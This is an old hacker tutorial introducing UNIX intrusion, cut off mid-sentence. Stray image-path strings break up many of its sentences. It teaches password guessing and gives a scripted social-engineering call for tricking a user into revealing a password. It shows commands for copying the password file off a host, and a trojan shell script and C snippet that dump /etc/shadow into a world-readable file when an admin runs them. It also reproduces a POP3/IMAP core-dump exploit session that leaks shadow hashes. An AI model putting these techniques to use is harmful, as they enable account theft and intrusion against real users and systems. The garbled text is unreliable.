Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Unix :: General :: unix_i~2.txt

An Introduction to Hacking Around with the UNIX Operating System, part 1 of 2, by Netdiablo

An Introduction To Hacking Around With The UNIX Operating System
                   By Netdiablo of 616 <>
    It is surprising that the majority of "hackers" today have little or
no knowledge of the systems they are trying to penetrate. They are the
ones looked down upon by the more experienced, those who run exploits to
get access and thenhave no idea what to do once they have the access
anyway. This textfile aims to give the newbie, or perhaps even intermediate
user some information on the UNIX system, and how to hack around with it.

    Note that this file does not purport to be the be-all and end-all to
UNIX, even for a beginner textfile. I have seen textfiles on UNIX that
number 50+ pages and still not get the idea across. People have built
entire careers on UNIX security, and obviously it couldnt even all be
explained in an entire set of texts. Mastery requires not only reading and
learning, but real-life experience that comes with time.

Beginning with the basics, UNIX is a multi-user, multitasking operating
system that originated at Bell Labs in the late 1960's. It was created
by engineers that had previously been working on the Multics project, which
was a multitasking, multi-user OS as well, that introduced many of the
security concepts in use today in government certified B2 and B3 level
systems. A small bit of trivia, UNIX was initially started on old GE
mainframes, but quickly moved to DEC PDP series minicomputers. From there,
it was ported to numerous other minicomputers and mainframes, and improved
over the years to the UNIX we know today.

UNIX takes many forms, but can be grouped into two major categories. There
are BSD-derived UNIX systems, and System V based systems. The BSD standardoriginated at the University of California-Berkeley and was considered by
many to be superior to AT&T offerings at the time. Many older UNIX systems
were based on it, such as SunOS, and many are based on it now, such as
OpenBSD, NetBSD, and FreeBSD. Other systems have integrated BSD features
into System V, such as Xenix. System V is the current AT&T standard for
UNIX. It really became popular when the University of California-Berkeley
announced that it would no longer be developing BSD. Since then, the rights
to "real" BSD have gone to BSDI, Inc.

So, you might be asking, what the hell does thishave to do with hacking?
Nothing. It's simply background, and it's good to know the difference between
System V and BSD anyway.

This file really does two things - it alternates between giving information
on UNIX security, and giving information on UNIX usage.

When you first access a UNIX system, it will probably be by a protocol called
telnet. When you telnet into a UNIX system, you should be able to notice it
by some very standard things about UNIX. A login prompt usually looks like:

<System_Type/Version> ( (ttyXX)


At the least, you will see "login:", and that pretty much means you've got
a UNIX system on your hands. Sometimes, the system name and terminal will
be in different positions, or not printed at all.

At this prompt, you will be expected to login using a valid username. On
UNIX systems, usernames are by standard 8 characters in length, although
that can be extended by the use of special software, although it is
uncommon. Then, you will be prompted for a password, which is also by
standard 8 characters, but can be also lengthened by use of special software.

The UNIX system has several accounts that are installed default onto itso that essential system services may be run. These typically include:

root: The system administrators account
bin: Owner of system binaries [most default executables on the system]
daemon: Owner of system daemons [programs that run specific services on ports]
adm: Another seldom-used administration account
lp: Owner of printers
sync: Seldom-used account for synching disks
shutdown: Seldom-used account for system shutdown
halt: Seldom-used account for halting system
mail: Owner of some system mail-related files
news: Owner of netnews-related filesuucp: Owner of UUCP binaries, which are, at this time, generally obsolete
operator: Another seldom-used administration account
postmaster: An account that gets misrouted mail and other junk, usually
            alised to root.
Although earlier files you might have seen say otherwise, I have found that
all the accounts listed above are always locked out [disabled] EXCEPT for
root. That means that accounts like bin,daemon, adm, lp, and the rest are
useless for login. Root should have a VERY strong password if the admin
is more intelligent than a gorilla. If you really want to try hacking
defaults, though, try using the account name as the password, and also
try words that have a relation to the account. For instance, for an
administrative account like 'root' you could try passwords like 'admin' or
'sysadmin' or 'manager'.

You might then be wondering how would one go about getting access on a UNIX
system. There are two major ways of doing this that will be covered in this
file. The first is stealing/guessing/cracking passwords, the most traditional
approach, and then there are buffer overflows. A buffer overflow is an exploitthat consists of overflowing [usually] an input buffer in a program. When that
is done properly, the program will crash, sometimes leaving you with a shell!
If that program happened to be SUID root, then, you just got root!

New user definition [SUID]: Set User ID. This is a parameter set on a program
that makes it execute as if it had privelages of the user it is SUID to.
Sometimes this is used with the root account to allow a program to access
certain files that it might need that are privelaged, for instance, /etc/shadow.

The first method, the stealing/guessing/cracking/etc. of passwords is the most
traditional method of getting access to a box. This can be quite simple,such
as social engineering some idiot who has an account on the box and getting them
to give you their username and password, or it can be somewhat complex, like
unshadowing the password file, then running a cracker on it.

New user definition [Social Engineering]: Tricking a computer-illiterate idiot
into giving you useful information that will help you better exploit your
target system.

One can also guess a password on a system. Possible passwords might be the
users name, the users name backwards, the users birthdate or phone number,
name of a friend or relative, name of the system, or a word that has a relation
to their job or profession.

Social engineering a password can be quite easy or really hard depending on
how stupid and gullible the target is. Obviously, there is a cutoff for this
sort of attack - experienced users will know you are just bullshitting them.
This can be done over the phone, electronically through chat or mail, or in
many other ways!

                    IDIOT: Hello
                    YOU: Hi, i'm with systems administration, and
                    we're planning on moving some of the user home
                    directories onto a larger disk later today.
                    This won't be an inconvenience to you?
                    IDIOT: No, i'll be finished with the system by
                    YOU: Ok, we'd like your password so that we can
                    check and see that all your files transferred ok.
                    Your login is "idiot", right?
                    IDIOT: Thats right. My password is "toidi"
                    YOU: Thank-you. I'll be sure to check and see that
                    everything works all right after themove.
                    IDIOT: Thanks
Of course, it is always better to sound as proficient as possible, especially
if the user is very computer illiterate and will be intimidated by the fact
that you will sound knowledgable. However, if you bullshit your way through
with someone who knows what they are doing, you can easily become screwed!

Also, you can steal the systems password file. This can be done remotely,
although it is a bit harder now than it used to be. Exploits can be found
in older versions of Sendmail that will make it mail the password file
to you, and the password file can also be grabbed by FTP if the admin
put the real password file there, although take note that usually one willfind a small, crippled password file in its place. You can also quickly
steal the password file if you can find a system running a protocol like
TFTP, which you will probably never find at this point in time, or other
services, like NFS, can also be manipulated to get access to files remotely.

If you already have an account on the system, it is VERY easy. Simply copy
the password file to your directory, and FTP it off of the system. This can
be done using the following command:

                    cp /etc/passwd /your/home/directory/passwd
or, you could also use a command like:

                    cat /etc/passwd > /your/home/directory/passwd
Then, just FTP it off the system onto your local box, where you can run a
password cracker, like Crack on it.

At this point in time, you might run into another problem. The password
file might be "shadowed". Shadowing is a scheme which attempts to make the
password file a lot harder to steal and crack. In the shadowing scheme, all
the users usual information EXCEPT the password is stored in /etc/passwd, but
the users password is stored in a special file that only root has privelages
to called the shadow file. There are many variations in what the shadow file
is called on different operating systems, but it is usually /etc/shadow on
System V derived systems, or /etc/master.passwd on BSD derived systems.

You can tell if you have a passwdfile that is "shadowed" by the fact that
all the entries in the passwd file contain some sort of token, and not the
real passwords. Most common are "x", "*", and "!".

Also, for your information, here is a look at the structure of an entry
in the passwd file:

Username:Encrypted Password:UID:GID:GECOS:Home Directory:Shell

It is pretty obvious what the 'Username' and 'Encrypted Password' fields
contain. The UID and GID fields contain the numeric UserID and GroupIDof the account. The GECOS field contains information like the users
real name, phone number, office, and other information which is shown
when you perform a 'finger' query on the user. The 'Home Directory'
and'Shell' fields are self explanatory as well.

Therefore, for all practical reasons,it seems that you have to have root
before you can steal the password file and get actual passwords, but this
is not totally so. There are a few ways around this.

First of all, you can trick the admin into running an application or a
script that is in reality a trojan horse to steal the passwd and shadow
files! Below is an example of a script that will do this:

                    echo "Initializing player information..."
                    cp /etc/shadow /my/home/directory/.shadow
                    cp /etc/passwd /my/home/directory/.passwd
                    chmod 777/my/home/directory/.shadow
                    chmod 777 /my/home/directory/.passwd
                    echo "Segmentation fault (core dumped)"
                    touch core
This is a decent script, although not really convincing. A better way to do
this would be to include something like the following in a small C program
and get the admin to run this:

                if (getuid()==0)
                        system("cp /etc/shadow /my/home/directory/.shadow");
                        system("cp /etc/passwd /my/home/directory/.passwd");
                        system("chmod 777 /my/home/directory/.passwd");
                        system("chmod 777 /my/home/directory/.shadow");
This will use the "getuid" function to get the user's UID, and if the UID is
0 (the root UID) then it attempts to steal the password file. However, if the
admin is being secure, and not running it from the root account, the programwill not do anything. This will make it more convincing than if the admin
ran the script under a non-root account and got errors about not having
permissions to /etc/shadow!

New User Definition [UID]: The numerical User ID of a user on a UNIX system.
Each login has a UID that corresponds to it.

You can also use an exploit to attempt to steal parts [or all] or the shadow
file through coredumps. Thisexploit is available from the rootshell website
under the filename "imapd_core.txt", "telnet_core.txt", and others.

New User Definition [Rootshell]:, one of the best sites on the
web for getting exploit code and information. Available at the rootshell
website at

New User Definition [Coredump]: A "core" file is a file that contains the
contents of program's memory space at the time that a program crashed. Used
under normal circumstances as a debugging aid, it can also be used to steal
data by crashing programs and reading the information out of the corefile.

Here is an example of such an exploit, the "imapd_core" exploit from rootshell:

When fed an unknown username, imapd and ipop3d will dump core:[root@koek] /# telnet zopie 110
Connected to
Escape character is '^]'.
+OK POP3 3.3(20) w/IMAP2 client (Comments to MRC@CAC.Wa
shington.EDU) at Sun, 1 Feb 1998 23:45:06 +0100 (CET)
user root
+OK User name accepted, password please
pass linux
[this is not the correct password]
-ERR Bad login
user john
[i have no user named john]
+OKUser name accepted, password please
pass doe
Connection closed by foreign host.

At this point, ipop3d coredumps in /core:

[root@zopie] /# strings core | grep -A3 root
[encrypted pw here]

Sun Feb 1 23:45:15 1998
root:[crypted pw here]:10244:0:::::
[looks like my /etc/shadow]

New User Definition [Disabled Account]: An account can be disabled on a UNIX
system by replacing its password in the /etc/passwd OR /etc/shadow fileswith
a token, which is usually "*". If password shadowing is in use, this will be
in the /etc/shadow file, if not, this will be in the /etc/passwd file. Do not
confuse this with shadowing, because in shadowing, all the passwords in the
/etc/passwd file will be marked with a token (usually "x" or "*") and you will
have to see the /etc/shadow file to see if they are really disabled.

Now, lets assume that you have a password and/or shadow file. Now, you will
have to crack it. First ofall, look for password or shadow files that have
